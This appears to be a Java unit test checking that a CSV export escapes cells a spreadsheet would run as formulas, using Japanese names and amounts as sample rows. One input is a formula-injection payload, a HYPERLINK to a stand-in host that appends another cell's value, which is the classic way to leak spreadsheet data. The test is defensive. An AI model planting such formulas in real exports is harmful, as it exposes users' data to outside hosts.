package org.kumiai.service.platform;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class CsvFileTest {

  @Test
  void textASpreadsheetWouldRunIsWrittenAsText() {
    byte[] file =
        CsvFile.of(
            new String[] {"name", "kana", "amount", "note"},
            rows -> {
              rows.printRecord("=HYPERLINK(\"https://x.example/?\"&B2,\"詳細\")", "+ｱ", -500, "-500");
              rows.printRecord("@SUM(A1)", "\t=1+1", 0, "- 割引");
              rows.printRecord("岡田 花子", "ｵｶﾀﾞ ﾊﾅｺ", 1_200, "a=b");
            });
    assertEquals(
        "\uFEFFname,kana,amount,note\r\n"
            + "\"'=HYPERLINK(\"\"https://x.example/?\"\"&B2,\"\"詳細\"\")\",'+ｱ,-500,-500\r\n"
            + "'@SUM(A1),'\t=1+1,0,'- 割引\r\n"
            + "岡田 花子,ｵｶﾀﾞ ﾊﾅｺ,1200,a=b\r\n",
        new String(file, StandardCharsets.UTF_8));
  }
}
